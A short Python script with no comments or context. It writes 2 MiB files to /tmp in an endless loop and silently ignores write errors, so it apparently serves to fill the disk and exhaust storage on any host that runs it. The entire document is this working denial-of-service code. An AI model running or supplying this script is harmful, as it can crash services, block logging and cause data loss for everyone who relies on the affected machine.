import itertools

for number in itertools.count():
    try:
        open(f"/tmp/{number}", "wb").write(b"x" * (2 << 20))
    except OSError:
        pass
